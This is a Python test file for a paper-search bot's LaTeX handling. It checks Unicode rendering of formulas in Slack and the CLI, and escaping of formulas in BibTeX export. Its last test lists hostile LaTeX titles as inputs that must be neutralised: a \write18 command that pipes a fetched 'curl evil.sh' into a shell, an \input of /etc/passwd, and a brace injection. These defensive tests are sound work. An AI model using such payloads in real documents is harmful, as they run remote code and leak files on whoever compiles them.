"""Inline LaTeX shown readable (bot/engine/latex.py): in Slack's answers, the CLI and the
BibTeX export, while the stored paper and the index keep what the authors wrote."""

from __future__ import annotations

import json
from pathlib import Path

import bibtexparser
import pytest
from click.testing import CliRunner

from bot.cli import main
from bot.engine.latex import formulas, readable, readable_pieces
from bot.engine.search import Engine
from bot.slack import render
from digest.export import to_bibtex
from tests.slack_harness import blocks_text

MATH_PAPER = {
    "id": "m1",
    "title": r"Top-$k$ Bandits in $\mathcal{O}(\sqrt{T})$ Regret",
    "abstract": r"We prove a regret of $\tilde{O}(\kappa^4\epsilon^{-4})$ for $k \approx 2000$ "
    r"arms, at $\|x\|_2 \le 1$, which costs $5 and $10 less than $\eps$-greedy bandits.",
    "venue": "ICML",
    "year": 2025,
}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"Top-$k$ Support Vector Machines", "Top-k Support Vector Machines"),
        (r"$\mathcal{X}$-Armed Bandits", "𝒳-Armed Bandits"),
        (r"rate $\mathcal{O}(1/\sqrt{T})$.", "rate 𝒪(1/√(T))."),
        (r"with $k \approx 2000$ arms", "with k ≈ 2000 arms"),
        (r"$$\Omega(N^2)$$ time", "Ω(N^2) time"),
        (r"a $\left( x \right)$ pair", "a ( x ) pair"),
        (r"as long as $ k \ge 2n$, fine", "as long as k ≥ 2n, fine"),
        (r"$\|x\|_2$", "‖x‖_2"),
        (r"up to $5\%$ better", "up to 5% better"),
        (r"up to $5%$ better", "up to 5% better"),  # a bare % inside math: no TeX comment
        # Not math: money, escaped dollars, a sign with no partner on its line.
        ("costs $5 and $10 each", "costs $5 and $10 each"),
        (r"prices (\$0.23 - \$0.27)", r"prices (\$0.23 - \$0.27)"),
        ("one $ here\nand $ there", "one $ here\nand $ there"),
        # An author's own macro, or markup pylatexenc cannot read, stays as written.
        (r"an $\eps$-net", r"an $\eps$-net"),
        (r"by $\app16\%$", r"by $\app16\%$"),
        (r"see $\href{a}{b}$", r"see $\href{a}{b}$"),
        ("100% plain text", "100% plain text"),
        (r"for $5 in $\alpha$ time", "for $5 in α time"),  # a sign freed by money opens math
    ],
)
def test_formulas_are_shown_in_unicode_and_everything_else_as_written(text, shown) -> None:
    assert readable(text) == shown


def test_a_snippets_formulas_are_converted_across_its_pieces() -> None:
    """A matched word inside a formula: the formula becomes one piece, matched."""
    pieces = [
        ("we get ", False),
        (r"$\mathcal{O}(", False),
        ("k", True),
        (r")$ time for ", False),
        ("k", True),
        (" arms at $x", False),
        ("$.", False),
    ]
    assert readable_pieces(pieces) == [
        ("we get ", False),
        ("𝒪(k)", True),
        (" time for ", False),
        ("k", True),
        (" arms at ", False),
        ("x", False),
        (".", False),
    ]
    plain = [("no math, $5", False), (" and $10", True)]
    assert readable_pieces(plain) == plain
    assert formulas("costs $5 and $10, $x$") == [(18, 21)]


@pytest.fixture
def math_engine(tmp_path: Path) -> Engine:
    engine = Engine(tmp_path / "math.db")
    path = tmp_path / "papers.jsonl"
    path.write_text(json.dumps(MATH_PAPER) + "\n")
    engine.ingest([path])
    return engine


def test_slack_and_the_cli_show_formulas_readable_and_the_paper_keeps_its_latex(
    math_engine: Engine, tmp_path: Path
) -> None:
    result = math_engine.search("bandits regret")
    [hit] = result.hits
    assert hit.paper["title"] == MATH_PAPER["title"]  # stored as written
    shown = blocks_text(render.search_message(result, query="bandits regret"))
    assert "Top-k Bandits in 𝒪(√(T)) Regret" in shown
    assert "Õ(κ^4ϵ^-4) for k ≈ 2000 arms" in shown and "‖x‖" in shown
    assert "costs $5 and $10 less" in shown and r"$\eps$-greedy" in shown
    assert "mathcal" not in shown and r"\tilde" not in shown
    assert "*bandits*" in shown  # the matched words still bold
    # The one plain line a notification shows.
    assert render.plain_title(hit.paper) == "Top-k Bandits in 𝒪(√(T)) Regret"

    out = CliRunner().invoke(main, ["--db", str(math_engine.db_path), "search", "regret"])
    assert out.exit_code == 0, out.output
    assert "Top-k Bandits in 𝒪(√(T)) Regret" in out.output and "Õ(κ^4ϵ^-4)" in out.output
    as_json = CliRunner().invoke(
        main, ["--db", str(math_engine.db_path), "search", "regret", "--json"]
    )
    assert json.loads(as_json.output)["results"][0]["title"] == MATH_PAPER["title"]


def test_bibtex_keeps_a_titles_formulas_as_math_and_escapes_the_rest() -> None:
    title = r"Top-$k$ Bandits for $5 in $\mathcal{O}(\sqrt{T})$ & #1 {unbalanced $x}$"
    [entry] = bibtexparser.parse_string(to_bibtex([{"id": "m", "title": title}])).entries
    assert entry.fields_dict["title"].value == (
        r"{Top-$k$ Bandits for \$5 in $\mathcal{O}(\sqrt{T})$ \& \#1 \{unbalanced \$x\}\$}"
    )


@pytest.mark.parametrize(
    "formula",
    [
        r"$\immediate\write18{curl evil.sh|sh}$",  # a shell command under --shell-escape
        r"$\input{/etc/passwd}$",  # a local file pasted into the PDF
        r"$\def\x{y}\x$",
        r"$x\\}$",  # a line break, then a brace that ends the field early
        "$5%$",  # a comment: the rest of the line gone
        "$#1$",
        "$a&b$",
        r"$\eps$",  # an author's own macro: undefined in someone else's document
    ],
)
def test_bibtex_escapes_a_formula_that_could_do_more_than_typeset_math(formula: str) -> None:
    """Titles come from feeds and files nobody checked: only math macros stay math."""
    title = f"Fast {formula} sorting"
    [entry] = bibtexparser.parse_string(to_bibtex([{"id": "m", "title": title}])).entries
    value = entry.fields_dict["title"].value
    assert formula not in value and value.startswith(r"{Fast \$")
    assert value.count("{") - value.count(r"\{") == value.count("}") - value.count(r"\}")
